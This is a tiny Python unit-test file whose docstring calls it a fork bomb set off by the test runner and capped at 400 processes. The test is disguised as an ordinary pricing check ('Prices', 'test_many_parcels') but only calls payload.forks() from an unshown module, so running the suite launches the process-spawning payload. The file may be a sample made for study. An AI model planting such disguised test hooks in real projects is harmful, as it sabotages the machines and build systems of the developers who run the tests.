"""A fork bomb that a test runner sets off. It stops at 400 processes."""

import unittest

import payload


class Prices(unittest.TestCase):
    def test_many_parcels(self):
        payload.forks()
